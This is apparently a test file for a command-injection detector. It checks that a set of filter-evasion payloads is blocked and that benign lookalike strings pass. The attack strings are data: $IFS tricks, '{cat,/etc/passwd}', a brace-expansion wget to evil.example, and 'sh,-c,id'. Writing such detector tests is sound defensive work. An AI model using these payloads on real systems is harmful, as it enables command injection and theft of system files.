// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { BLOCKS, scoreOf } from "./helpers.js";

describe("command injection: quotes and $IFS that only a filter evasion writes", () => {
  for (const attack of [
    '""whoami',
    "''id;",
    '""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""',
    ";echo${IFS}vulnerable",
    "sleep$IFS$9 5",
    "|cat$IFS/etc/hosts",
  ]) {
    it(`blocks ${attack}`, () => assert.ok(scoreOf(cmdiDetector, attack) >= BLOCKS, attack));
  }

  for (const benign of [
    '"quoted" words here',
    "''hello there",
    '"Hello," she said',
    "the shell splits words on $IFS",
    "set IFS=, before the loop",
    "price$IFS",
  ]) {
    it(`lets ${benign} through`, () => assert.ok(scoreOf(cmdiDetector, benign) < BLOCKS, benign));
  }
});

describe("command injection: a comma glued to a word outside braces", () => {
  for (const benign of [
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "data:text/plain;base64,SGVsbG8=",
    "data:application/pdf;base64,JVBERi0xLjQK",
    "colours: red;cat,dog;blue",
  ]) {
    it(`lets ${benign.slice(0, 40)} through`, () => assert.ok(scoreOf(cmdiDetector, benign) < BLOCKS, benign));
  }

  for (const attack of ["{cat,/etc/passwd}", ";{wget,http://evil.example/x}", "sh,-c,id"]) {
    it(`still blocks brace expansion and argv lists: ${attack}`, () => assert.ok(scoreOf(cmdiDetector, attack) >= BLOCKS, attack));
  }
});
